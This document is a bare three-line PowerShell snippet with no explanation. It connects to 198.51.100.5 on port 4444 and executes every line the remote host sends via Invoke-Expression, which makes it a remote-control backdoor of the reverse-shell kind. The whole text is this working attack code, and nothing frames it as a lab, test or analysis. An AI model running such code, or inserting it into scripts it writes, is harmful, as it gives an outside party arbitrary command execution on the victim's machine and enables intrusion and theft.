$c = New-Object System.Net.Sockets.TCPClient("198.51.100.5", 4444)
$s = $c.GetStream(); $r = New-Object IO.StreamReader($s)
while ($l = $r.ReadLine()) { iex $l }
